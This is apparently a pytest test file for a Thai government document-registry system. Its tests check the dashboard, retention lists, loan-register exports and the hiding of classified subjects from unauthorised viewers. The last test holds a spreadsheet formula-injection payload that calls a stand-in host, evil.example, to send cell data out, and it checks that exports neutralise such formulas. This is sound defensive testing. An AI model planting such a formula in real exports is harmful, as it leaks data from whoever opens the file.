"""The executive dashboard's figures and exports, and the loan register (form 24): B.E. dates, official
columns, and no classified subject for a reader without need-to-know."""

from __future__ import annotations

import csv
import datetime as dt
import io
import subprocess
from pathlib import Path

import pytest

from saraban.access.principal import forget_principals, principal_for
from saraban.records.actions.loans import LoanRequest, lend, return_loan
from saraban.reports import dashboard, dashboard_export
from saraban.reports import loans as loan_report
from saraban.reports.charts import Series, bar_chart
from saraban.routing.models import Step
from tests.fixtures import user
from tests.records.conftest import person

pytestmark = pytest.mark.django_db
OUT = Path("/tmp/saraban-16b")


@pytest.fixture
def activity(letters, clock):
    """Loans of an ordinary and a ลับ letter (one returned), and overdue work waiting with two people."""
    lend(user("registrar"), LoanRequest(letter_id=letters["normal"].pk, medium="paper", scope="outsider",
                                        due=dt.date(2026, 3, 5), purpose="ศึกษาวิจัย",
                                        borrower_name="นางสาวทดลอง สมมติ", borrower_agency="มหาวิทยาลัยตัวอย่าง",
                                        approver_id=person("director").pk, file_code="กก 1.2/2569"))
    lend(user("secretary"), LoanRequest(letter_id=letters["confidential"].pk, medium="electronic",
                                        scope="internal", due=dt.date(2026, 3, 20), purpose="ประกอบการประชุม",
                                        borrower_id=person("ict-director").pk))
    back = lend(user("registrar"), LoanRequest(letter_id=letters["normal"].pk, medium="copy", scope="internal",
                                               due=dt.date(2026, 3, 4), purpose="อ้างอิง",
                                               borrower_id=person("officer").pk))
    return_loan(user("registrar"), back.pk, "นายกิตติศักดิ์ ขยันงาน")
    now = clock.now()
    for letter, who, days in ((letters["normal"], "officer", 3), (letters["normal"], "ict-director", 1),
                              (letters["confidential"], "ict-director", 5)):
        Step.objects.create(letter=letter, kind="assign", status="sent", to_person=person(who), to_label=who,
                            due_date=dt.date(2026, 3, 3) - dt.timedelta(days=days), created_at=now)
    clock.advance(days=4)  # the paper loan is now overdue
    forget_principals()
    return letters


def test_dashboard_counts_within_what_the_viewer_sees(activity, clock) -> None:
    director = principal_for(user("director"))  # executive of กองกลาง, cleared for ลับ, not given the ลับ letter
    d = dashboard.build(director, 2569)
    incoming, outgoing = d.month_totals
    assert incoming[2] == 1 and sum(incoming) == 1 and sum(outgoing) == 0  # the ordinary book only, March
    overdue = {(r.person, r.count) for r in d.overdue}
    # the executive oversees กองกลาง's letters: the ลับ one's overdue step is counted, never named
    assert overdue == {(person("officer").full_name_th, 1), (person("ict-director").full_name_th, 2)}
    subjects = [x.subject for x in d.loans]
    assert "ขอเชิญประชุมคณะทำงาน" in subjects and dashboard.HIDDEN_SUBJECT in subjects
    assert activity["confidential"].subject not in str(d)
    assert [x.overdue for x in d.loans if x.subject != dashboard.HIDDEN_SUBJECT] == [True]
    secretary = principal_for(user("secretary"))
    assert activity["confidential"].subject in [x.subject for x in dashboard.build(secretary, 2569).loans]
    assert dashboard.retention_due(director, 2569) == []  # nothing filed yet


def test_retention_due_lists_kept_letters_ending_that_year_without_hidden_subjects(activity, clock) -> None:
    from saraban.records.models import FileCode, Filing, FilingState

    ordinary, secret = activity["normal"], activity["confidential"]
    code = FileCode.objects.create(agency=ordinary.agency, code="2.1", title_th="แฟ้มประชุม", retention="1y")
    for letter, until, state in ((ordinary, 2569, FilingState.KEPT), (secret, 2569, FilingState.KEPT)):
        Filing.objects.create(letter=letter, agency=letter.agency, file_code=code, retention="1y", keep_until_be=until,
                              completed_on=dt.date(2025, 5, 1), base_year_be=2568, filed_at=clock.now(), state=state)
    director = principal_for(user("director"))
    rows = dashboard.retention_due(director, 2569)
    assert [(r.file_code, r.keep_until) for r in rows] == [("2.1", "พ.ศ. 2569")] * 2
    assert ordinary.subject in [r.subject for r in rows] and secret.subject not in str(rows)
    assert dashboard.retention_due(director, 2570) == []
    Filing.objects.filter(letter=ordinary).update(state=FilingState.DESTROYED)
    assert [r.subject for r in dashboard.retention_due(director, 2569)] == [dashboard.HIDDEN_SUBJECT]
    text = dashboard_export.export(dashboard.build(director, 2569), "csv").decode("utf-8-sig")
    assert [dashboard.HIDDEN_SUBJECT, "2.1", "พ.ศ. 2569"] in list(csv.reader(io.StringIO(text)))


def test_dashboard_exports_with_be_dates_and_no_hidden_subject(activity, clock) -> None:
    d = dashboard.build(principal_for(user("director")), 2569)
    text = dashboard_export.export(d, "csv").decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert ["หน่วยงาน", "ผู้รับผิดชอบ", "จำนวน", "กำหนดเสร็จที่เก่าที่สุด"] in rows
    assert "2569" in text and "2026" not in text and activity["confidential"].subject not in text
    from openpyxl import load_workbook

    wb = load_workbook(io.BytesIO(dashboard_export.export(d, "xlsx")))
    assert wb.sheetnames == ["รับส่งรายเดือน", "งานเกินกำหนด", "หนังสือที่ยืม", "ครบกำหนดเก็บ"]
    pdf = dashboard_export.export(d, "pdf", agency="สำนักงานปลัดกระทรวงดิจิทัลเพื่อเศรษฐกิจและสังคม")
    OUT.mkdir(exist_ok=True)
    (OUT / "dashboard.pdf").write_bytes(pdf)
    words = subprocess.run(["pdftotext", "-layout", str(OUT / "dashboard.pdf"), "-"], capture_output=True,
                           text=True, check=True).stdout
    assert "2569" in words and activity["confidential"].subject not in words


def test_loan_register_prints_form_24(activity, clock) -> None:
    director = principal_for(user("director"))
    loans = loan_report.loans_of_year(director, 2569)
    t = loan_report.table(director, loans, 2569)
    assert list(t.headers) == ["ลำดับที่", "รายการ", "ผู้ยืม", "ผู้รับ", "วันยืม", "กำหนดส่งคืน", "ผู้ส่งคืน",
                               "วันส่งคืน", "ผู้อนุมัติ", "หมายเหตุ"]
    first = t.rows[0]  # ordered by due date: the returned copy (due 4 Mar) first
    assert first[6] == "นายกิตติศักดิ์ ขยันงาน" and first[7] == "3 มี.ค. 2569" and first[5] == "4 มี.ค. 2569"
    paper = next(r for r in t.rows if "กก 1.2/2569" in r[1])
    assert "มหาวิทยาลัยตัวอย่าง" in paper[2] and "ผู้อำนวยการกองกลาง" in paper[8] and "เกินกำหนด" in paper[9]
    assert any(r[1] == dashboard.HIDDEN_SUBJECT for r in t.rows)
    pdf = loan_report.export(director, 2569, "pdf", agency="สำนักงานปลัดกระทรวงดิจิทัลเพื่อเศรษฐกิจและสังคม")
    OUT.mkdir(exist_ok=True)
    (OUT / "form24.pdf").write_bytes(pdf)
    words = subprocess.run(["pdftotext", "-layout", str(OUT / "form24.pdf"), "-"], capture_output=True, text=True,
                           check=True).stdout
    assert "ทะเบียนการยืมหนังสือ" in words and activity["confidential"].subject not in words
    secretary_pdf = loan_report.export(principal_for(user("secretary")), 2569, "pdf")
    (OUT / "form24-secret.pdf").write_bytes(secretary_pdf)
    assert loan_report.export(director, 2569, "csv").decode("utf-8-sig").count("\n") == 4


def test_svg_chart_escapes_labels() -> None:
    svg = bar_chart(["ม.ค.", "<b>"], [Series("รับ & ส่ง", [3, 0])], title="ทดสอบ <script>")
    assert svg.startswith("<svg") and "<script>" not in svg and "&lt;b&gt;" in svg and "&amp;" in svg


def test_exported_tables_never_hold_a_formula() -> None:
    from openpyxl import load_workbook

    from saraban.reports.tables import Table, to_csv, to_xlsx

    hostile = '=HYPERLINK("https://evil.example/?d="&A1,"คลิก")'
    t = Table("ทดสอบ", ["ผู้ยืม"], [[hostile], ["-"], ["+66 2 141 6747"]])
    ws = load_workbook(io.BytesIO(to_xlsx([t]))).active
    assert ws["A3"].data_type == "s" and ws["A3"].value == hostile
    assert "'=HYPERLINK" in to_csv([t]).decode("utf-8-sig")
